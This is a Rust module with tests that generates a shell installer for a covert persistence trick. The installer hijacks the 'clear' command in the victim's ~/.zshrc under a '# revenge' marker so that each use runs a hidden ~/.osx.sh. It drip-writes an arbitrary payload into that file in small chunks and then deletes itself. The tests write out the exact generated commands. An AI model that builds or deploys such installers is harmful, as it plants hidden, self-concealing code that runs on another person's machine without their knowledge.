use std::time::Duration;

use log::debug;

use crate::error::Result;
use crate::packager::{DEFAULT_MAX_LENGTH, Packager};

pub const DEFAULT_SCRIPT_NAME: &str = "model.sh";

#[derive(Debug, Clone)]
pub struct InstallConfig {
    /// Shell profile the alias is appended to.
    pub profile: String,
    pub target: String,
    pub alias: String,
    pub interpreter: String,
    pub chunk_delay: Duration,
    pub max_length: usize,
}

impl Default for InstallConfig {
    fn default() -> Self {
        Self {
            profile: "~/.zshrc".to_string(),
            target: "~/.osx.sh".to_string(),
            alias: "clear".to_string(),
            interpreter: "sh".to_string(),
            chunk_delay: Duration::from_millis(50),
            max_length: DEFAULT_MAX_LENGTH,
        }
    }
}

pub fn build_install_script(payload: &str, config: &InstallConfig) -> Result<String> {
    let packager = Packager::new(Some(&config.target), config.max_length)?;
    let InstallConfig {
        profile,
        target,
        alias,
        interpreter,
        ..
    } = config;

    let mut script = String::new();
    script.push_str(&format!("echo '\\n\\n\\n# revenge' >> {profile}\n"));
    script.push_str(&format!(
        "echo alias {alias}=\\'{alias}\\; {interpreter} {target}\\' >> {profile}\n"
    ));
    script.push_str(&format!("echo {alias} >> {profile}\n"));
    script.push_str(&format!("rm {target} 2>/dev/null\n"));

    let separator = format!("\nsleep {}\n", config.chunk_delay.as_secs_f64());
    let commands: Vec<String> = packager.commands(payload).collect();
    debug!("payload split into {} echo commands", commands.len());
    script.push_str(&commands.join(&separator));

    script.push_str(&format!("\nsource {profile}\n"));
    script.push_str("rm $0\n");

    Ok(script)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn wraps_commands_with_profile_hooks() {
        let script = build_install_script("hi", &InstallConfig::default()).unwrap();
        assert_eq!(
            script,
            "echo '\\n\\n\\n# revenge' >> ~/.zshrc\n\
             echo alias clear=\\'clear\\; sh ~/.osx.sh\\' >> ~/.zshrc\n\
             echo clear >> ~/.zshrc\n\
             rm ~/.osx.sh 2>/dev/null\n\
             echo -n 'hi' >> ~/.osx.sh\n\
             source ~/.zshrc\n\
             rm $0\n"
        );
    }

    #[test]
    fn separates_chunks_with_sleep() {
        let config = InstallConfig {
            max_length: 30,
            ..InstallConfig::default()
        };
        let script = build_install_script(&"x".repeat(20), &config).unwrap();

        let echoes = script.lines().filter(|l| l.starts_with("echo -n")).count();
        let sleeps = script.lines().filter(|l| *l == "sleep 0.05").count();
        assert!(echoes > 1);
        assert_eq!(sleeps, echoes - 1);
    }

    #[test]
    fn propagates_max_length_errors() {
        let config = InstallConfig {
            max_length: 10,
            ..InstallConfig::default()
        };
        assert!(build_install_script("x", &config).is_err());
    }
}
